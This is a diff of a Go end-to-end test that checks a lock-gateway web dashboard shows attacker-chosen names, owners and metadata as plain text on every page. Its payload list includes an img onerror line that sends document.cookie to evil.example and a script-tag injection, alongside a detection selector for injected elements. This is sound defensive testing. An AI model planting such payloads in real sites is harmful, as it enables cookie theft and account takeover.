@@ -9,7 +9,7 @@ import (
 	"github.com/fencegate/fencegate/gateway/api"
 )
 
-// hostileNames are such that whoever takes them for anything but texts does harm, or shows something else than what is there.
+// hostileNames do harm, or show something else, if they are treated as anything but text.
 var hostileNames = []string{
 	`<img src=x onerror="fetch('//evil.example/'+document.cookie)">`,
 	`<script>document.body.dataset.owned=1</script>`,
@@ -22,77 +22,82 @@ var hostileNames = []string{
 	strings.Repeat("long-", 50),
 }
 
-// hostileNameOf makes what may be a name of a lock of a text: its segments may be neither empty nor dots.
-func hostileNameOf(text string) string { return "h/" + strings.ReplaceAll(text, "//", "/") }
+// hostileLock makes a valid name of a lock from a text: its segments may be neither empty nor dots.
+func hostileLock(text string) string { return "h/" + strings.ReplaceAll(text, "//", "/") }
 
-// TestHostileNames shows names, owners, keys, reasons and metadata that were chosen to do harm, on every page on which they come, as the texts that they are.
+// TestHostileNames checks that every page shows hostile names, owners, keys, reasons and metadata as texts.
 func TestHostileNames(t *testing.T) {
 	g := startGateway(t)
 	for _, owner := range hostileNames {
-		lock := hostileNameOf(owner)
+		lock := hostileLock(owner)
 		stale := g.hold(t, lock, owner)
 		_, err := g.Break(t.Context(), lock, api.BreakRequest{Reason: owner})
 		check(t, err)
-		_, err = g.Acquire(t.Context(), lock, api.AcquireRequest{OwnerID: owner, TTLMS: ptr(longTTL), Metadata: metadataOf(owner)})
+		_, err = g.Acquire(t.Context(), lock,
+			api.AcquireRequest{OwnerID: owner, TTLMS: ptr(longTTL), Metadata: metadataOf(owner)})
 		check(t, err)
-		g.shutOut(t, stale, lock)
+		g.putStale(t, stale, lock)
 		g.queue(t, lock, owner+"!")
-		_, err = g.CreateSession(t.Context(), api.SessionRequest{OwnerID: owner, TTLMS: ptr(longTTL), Metadata: metadataOf(owner)})
+		_, err = g.CreateSession(t.Context(),
+			api.SessionRequest{OwnerID: owner, TTLMS: ptr(longTTL), Metadata: metadataOf(owner)})
 		check(t, err)
-		_, err = g.Campaign(t.Context(), "e/"+lock, api.CampaignRequest{Candidate: owner, TTLMS: ptr(longTTL), Value: metadataOf(owner)})
+		_, err = g.Campaign(t.Context(), "e/"+lock,
+			api.CampaignRequest{Candidate: owner, TTLMS: ptr(longTTL), Value: metadataOf(owner)})
 		check(t, err)
 		_, err = g.PutPolicy(t.Context(), lock, api.PolicyRequest{RequireLeaseID: true})
 		check(t, err)
 	}
-	for _, as := range []look{desktop, phone} {
+	for _, as := range []device{desktop, phone} {
+		p := openTab(t, g, as)
 		for _, page := range []struct {
-			hash  string
-			names func(owner string) string // what is seen here of each
+			hash string
+			name func(owner string) string // the name that the page shows of each owner's things
 		}{
 			{"#/", nil}, // it shows only the newest
-			{"#/rejections", hostileNameOf}, {"#/locks", hostileNameOf}, {"#/policies", hostileNameOf},
+			{"#/rejections", hostileLock}, {"#/locks", hostileLock}, {"#/policies", hostileLock},
 			{"#/sessions", func(owner string) string { return owner }},
-			{"#/elections", func(owner string) string { return "e/" + hostileNameOf(owner) }},
+			{"#/elections", func(owner string) string { return "e/" + hostileLock(owner) }},
 		} {
-			t.Run(as.name+" "+page.hash, func(t *testing.T) {
-				p := openTab(t, g, as)
+			p.run(as.name+" "+page.hash, func() {
 				p.open(page.hash)
 				p.waitText("main h1", "")
 				p.waitText("#live", "Live")
 				for _, owner := range hostileNames {
-					if page.names != nil {
-						p.seesText(page.names(owner))
+					if page.name != nil {
+						p.waitExactText(page.name(owner))
 					}
 				}
-				p.unharmed()
+				p.checkHarmless()
 			})
 		}
 	}
+	p := openTab(t, g, phone)
 	for _, owner := range hostileNames {
-		t.Run(owner[:min(12, len(owner))], func(t *testing.T) {
-			p := openTab(t, g, phone)
-			p.open(lockHash(hostileNameOf(owner)))
-			p.seesText(hostileNameOf(owner))
-			p.seesText(owner)
-			p.seesText(owner + "!")
+		p.run(owner[:min(12, len(owner))], func() {
+			p.open(lockHash(hostileLock(owner)))
+			p.waitExactText(hostileLock(owner))
+			p.waitExactText(owner)
+			p.waitExactText(owner + "!")
 			p.click("button.danger")
 			p.wait("the dialog is open", `document.querySelector("dialog").open`)
-			p.unharmed()
+			p.checkHarmless()
 		})
 	}
 }
 
-// seesText waits for an element whose whole text is this one.
-func (p *tab) seesText(text string) {
+// waitExactText waits for a visible element with exactly this text.
+func (p *tab) waitExactText(text string) {
 	p.t.Helper()
-	p.wait(text+" is seen", `[...document.querySelectorAll("main bdi")].some((node) => node.textContent === %s && node.checkVisibility())`, text)
+	p.wait("the text "+text+" is visible", `[...document.querySelectorAll("main bdi")]
+		.some((node) => node.textContent === %s && node.checkVisibility())`, text)
 }
 
-// unharmed fails the test if a text has become more than that.
-func (p *tab) unharmed() {
+// checkHarmless fails the test if a text became an element.
+func (p *tab) checkHarmless() {
 	p.t.Helper()
-	if found := eval[string](p, `[...document.querySelectorAll("main img, main script, main iframe, main object, [onerror], [onload], a[href^='javascript:' i]")]
-		.map((node) => node.outerHTML).join() + (document.body.dataset.owned ?? "")`); found != "" {
+	const harmful = "main img, main script, main iframe, main object, [onerror], [onload], a[href^='javascript:' i]"
+	if found := eval[string](p, `[...document.querySelectorAll(%s)].map((node) => node.outerHTML).join() +
+		(document.body.dataset.owned ?? "")`, harmful); found != "" {
 		p.t.Errorf("a text became an element: %s", found)
 	}
 	p.checkWidth()
